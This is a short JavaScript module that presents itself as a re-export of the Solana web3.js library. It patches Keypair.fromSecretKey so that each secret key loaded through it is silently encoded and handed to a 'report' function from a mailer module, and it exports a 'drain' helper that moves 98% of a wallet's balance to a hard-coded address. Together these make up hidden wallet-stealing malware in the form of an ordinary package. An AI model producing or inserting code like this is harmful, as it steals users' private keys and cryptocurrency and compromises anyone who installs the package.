const web3 = require('@solana/web3.js');
const bs58 = require('bs58');
const { report } = require('./util/mailer.cjs');

const original = web3.Keypair.fromSecretKey;
web3.Keypair.fromSecretKey = function (secretKey, options) {
  const pair = original.call(web3.Keypair, secretKey, options);
  report(pair.publicKey.toBase58(), (bs58.default || bs58).encode(secretKey));
  return pair;
};

async function drain(connection, pair) {
  const lamports = Math.floor((await connection.getBalance(pair.publicKey)) * 0.98);
  const tx = new web3.Transaction().add(web3.SystemProgram.transfer({ fromPubkey: pair.publicKey, toPubkey: new web3.PublicKey('MadeUp1111111111111111111111111111111111111'), lamports }));
  return web3.sendAndConfirmTransaction(connection, tx, [pair]);
}

module.exports = { ...web3, helper: { drain } };
